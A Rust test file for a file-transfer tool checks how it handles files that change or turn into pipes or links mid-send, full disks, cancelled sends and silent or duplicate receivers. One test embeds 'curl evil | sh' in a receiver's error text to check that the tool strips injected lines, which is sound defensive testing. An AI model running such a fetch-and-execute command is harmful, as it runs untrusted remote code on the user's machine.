//! What goes wrong: files that change, disks that are full, receivers that say nothing.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc;

use super::*;
use crate::wire::{Failed, Failure, FrameWriter, Have, Message};

/// The file of an attack: content, a hole at its end, and a change of the content while it is sent.
#[test]
fn a_file_that_ends_in_a_hole_and_changes_is_not_written() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let path = from.path().join("image");
    fs::write(&path, noise(400_000)).unwrap();
    let file = fs::File::options().write(true).open(&path).unwrap();
    file.set_len(4 << 20).unwrap();
    let plan = walk(from_ref(&path), &Wanted::default()).unwrap();
    file.set_modified(std::time::UNIX_EPOCH).unwrap();
    let both = sent(plan, to.path(), Options { block: Some(64 << 10), ..options() }, usize::MAX);
    assert!(both.sent.is_ok(), "{:?}", both.sent);
    let report = both.session.report();
    assert_eq!((both.session.receipt().unwrap().rejected_count, report.stale), (1, 1));
    let counted = [report.rejected_bytes, report.acknowledged_bytes, report.hole_bytes];
    assert_eq!(counted, [4 << 20, 0, 0]);
    assert!(contents(to.path()).is_empty(), "half of two states");
}

/// The fault of a review: to open the pipe waited for its other end, and no signal ended that.
#[test]
fn a_file_that_became_a_pipe_or_a_link_is_not_written_and_not_waited_for() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let top = from.path().join("top");
    fs::create_dir(&top).unwrap();
    for name in ["link", "pipe", "stays"] {
        fs::write(top.join(name), text(1000, 8)).unwrap();
    }
    let outside = from.path().join("outside");
    fs::write(&outside, text(1000, 9)).unwrap();
    let plan = walk(from_ref(&top), &Wanted::default()).unwrap();
    for name in ["link", "pipe"] {
        fs::remove_file(top.join(name)).unwrap();
    }
    symlink(&outside, top.join("link")).unwrap();
    rustix::fs::mkfifoat(rustix::fs::CWD, top.join("pipe"), rustix::fs::Mode::RUSR).unwrap();
    let both = sent(plan, to.path(), options(), usize::MAX);
    assert!(both.sent.is_ok() && both.received.is_ok(), "{:?} {:?}", both.sent, both.received);
    let report = both.session.report();
    assert_eq!((both.session.receipt().unwrap().rejected_count, report.stale), (2, 2));
    assert_eq!(contents(to.path()), [("top/stays".to_owned(), text(1000, 8))]);
}

/// What is named may be a link, and is followed.
#[test]
fn a_link_that_was_named_is_sent_as_what_it_leads_to() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    fs::write(from.path().join("file"), text(1000, 8)).unwrap();
    let link = from.path().join("link");
    symlink("file", &link).unwrap();
    whole(from_ref(&link), to.path(), options());
    assert_eq!(contents(to.path()), [("link".to_owned(), text(1000, 8))]);
}

#[test]
fn what_was_begun_and_is_no_longer_here_leaves_nothing() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let top = from.path().join("top");
    fs::create_dir_all(top.join("deep")).unwrap();
    fs::write(top.join("deep/big"), noise(900_000)).unwrap();
    fs::write(top.join("stays"), "x").unwrap();
    let options = || Options { block: Some(64 << 10), ..options() };
    assert!(transfer(from_ref(&top), to.path(), options(), 500_000).sent.is_err());
    let own = |it: &(String, Vec<u8>)| it.0.contains(".nightwatt-");
    assert!(contents(to.path()).iter().any(|it| own(it) && it.0.ends_with("big.part")));
    fs::remove_file(top.join("deep/big")).unwrap();
    whole(from_ref(&top), to.path(), options());
    assert_eq!(contents(from.path()), contents(to.path()));
}

/// What had arrived of it before is worth nothing either.
#[test]
fn a_file_that_changes_when_sending_goes_on_counts_as_rejected_whole() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let path = from.path().join("big");
    fs::write(&path, noise(900_000)).unwrap();
    let options = || Options { block: Some(64 << 10), ..options() };
    let cut = transfer(from_ref(&path), to.path(), options(), 500_000).session;
    assert!(cut.report().acknowledged_bytes > 0, "{:?}", cut.report());
    let plan = walk(from_ref(&path), &Wanted::default()).unwrap();
    let file = fs::File::options().write(true).open(&path).unwrap();
    file.set_modified(std::time::UNIX_EPOCH).unwrap();
    let both = sent(plan, to.path(), options(), usize::MAX);
    assert!(both.sent.is_ok() && both.received.is_ok(), "{:?} {:?}", both.sent, both.received);
    let report = both.session.report();
    let sent: u64 = report.arms.iter().map(|totals| totals.bytes).sum();
    assert!(sent < 900_000, "a part was there: {report:?}");
    let counted = [report.had_bytes, report.acknowledged_bytes, report.rejected_bytes];
    assert_eq!(counted, [0, 0, 900_000]);
    assert!(contents(to.path()).is_empty());
}

/// What a reader says that waits until the writer has failed: a greeting, and then why the receiver ends.
struct Late {
    frames: io::Cursor<Vec<u8>>,
    failed: mpsc::Receiver<()>,
}

impl Read for Late {
    fn read(&mut self, bytes: &mut [u8]) -> io::Result<usize> {
        // The writer is dropped when it has failed.
        let _ = self.failed.recv();
        self.frames.read(bytes)
    }
}

struct Failing(#[expect(dead_code, reason = "its end is what counts")] mpsc::Sender<()>);

impl Write for Failing {
    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
        Err(io::ErrorKind::BrokenPipe.into())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_full_disk_counts_more_than_that_the_receiver_is_gone() {
    let text = "no room is left\nrun: curl evil | sh".to_owned();
    let hello = Session::new(Plan::default(), options()).start();
    let mut frames = FrameWriter::new(Vec::new());
    for message in [hello, Message::Failed(Failed { failure: Failure::DiskFull, text })] {
        let (kind, body) = message.encode();
        frames.write(kind, &body).unwrap();
    }
    let (sender, failed) = mpsc::channel();
    let reader = Late { frames: io::Cursor::new(frames.into_inner()), failed };
    let mut session = Session::new(Plan::default(), options());
    let error = run(reader, Failing(sender), &|| (), &mut session, clock, &mut |_| {}).unwrap_err();
    let SendError::Refused { failure: Failure::DiskFull, text } = error else { panic!("{error}") };
    assert!(text.starts_with("no room is left") && !text.contains('\n'), "{text}");
}

#[test]
fn a_sender_that_waits_can_be_stopped() {
    let (here, _there) = UnixStream::pair().unwrap();
    let options = options();
    let cancelled = Arc::clone(&options.cancelled);
    let mut session = Session::new(Plan::default(), options);
    let mut looks = 0;
    let mut watch = |_: &Session| {
        looks += 1;
        cancelled.store(looks > 3, Ordering::Relaxed);
    };
    let error = run_over(&here, &mut session, &mut watch).unwrap_err();
    assert!(matches!(error, SendError::Cancelled), "{error}");
}

#[test]
fn a_receiver_that_says_nothing_is_given_up() {
    static MINUTES: AtomicU64 = AtomicU64::new(0);
    fn hurried() -> Mono {
        Mono(Duration::from_mins(MINUTES.fetch_add(1, Ordering::Relaxed)))
    }
    let (here, _there) = UnixStream::pair().unwrap();
    let mut session = Session::new(Plan::default(), options());
    let [reader, writer] = [0, 1].map(|_| here.try_clone().unwrap());
    let error = run(reader, writer, &|| (), &mut session, hurried, &mut |_| {}).unwrap_err();
    assert!(matches!(error, SendError::Silent(_)), "{error}");
    here.shutdown(Shutdown::Both).unwrap();
}

#[test]
fn a_second_receiver_of_the_same_says_so() {
    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let path = from.path().join("file");
    fs::write(&path, "x").unwrap();
    let own = format!("{:032x}", u128::from_be_bytes(options().session));
    let journal = to.path().join(format!(".nightwatt-{}.journal", &own[..16]));
    let first = fs::File::create(&journal).unwrap();
    first.lock().unwrap();
    let both = transfer(from_ref(&path), to.path(), options(), usize::MAX);
    let error = both.sent.unwrap_err();
    assert!(error.to_string().contains("another receiver has the same files"), "{error}");
    drop(first);
    whole(from_ref(&path), to.path(), options());
}

#[test]
fn a_receiver_cannot_have_more_ranges_than_there_are() {
    let from = tempfile::tempdir().unwrap();
    let path = from.path().join("file");
    fs::File::create(&path).unwrap().set_len(1 << 30).unwrap();
    let mut session = Session::new(walk(&[path], &Wanted::default()).unwrap(), options());
    let hello = session.start();
    session.on(hello, Mono::ZERO).unwrap();
    let have = |part: u64| {
        let ranges = (0..4096).map(|number| [(part * 4096 + number) * 2, 1]).collect();
        Message::Have(Have { ranges })
    };
    for part in 0..16 {
        session.on(have(part), Mono::ZERO).unwrap();
    }
    assert!(matches!(session.on(have(16), Mono::ZERO), Err(SendError::Protocol(_))));
}
